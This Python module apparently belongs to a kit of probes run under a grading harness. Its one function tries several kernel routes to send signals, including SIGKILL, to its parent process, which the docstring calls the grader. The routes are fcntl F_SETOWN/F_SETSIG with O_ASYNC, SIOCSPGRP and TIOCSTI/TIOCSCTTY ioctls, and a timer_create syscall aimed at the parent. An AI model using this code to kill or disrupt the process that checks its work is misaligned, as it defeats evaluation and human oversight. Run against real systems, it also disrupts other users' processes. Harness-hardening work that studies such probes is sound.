"""Has the kernel signal the grader: by F_SETOWN, by timers, by a hang-up of the terminal."""
from kit import attempts, connection, done, libc, load, os, pays

fcntl, struct = load("fcntl"), load("struct")


@pays
def double():
    parent, fd = os.getppid(), connection()
    return attempts([
        lambda: done(fcntl.fcntl(fd, fcntl.F_SETOWN, parent)),
        lambda: done(fcntl.fcntl(fd, 15, struct.pack("ii", 1, parent))),
        lambda: done(fcntl.fcntl(fd, fcntl.F_SETFL, os.O_ASYNC)),
        lambda: done(fcntl.fcntl(fd, fcntl.F_SETSIG, 9)),
        lambda: libc().ioctl(fd, 0x8901, struct.pack("i", parent)) == 0,
        lambda: libc().ioctl(0, 0x5412, b"x") == 0,
        lambda: libc().ioctl(0, 0x540E, 1) == 0,
        lambda: libc().syscall(222, 0, struct.pack("iii", 9, 4, parent), bytes(8)) == 0,
    ])
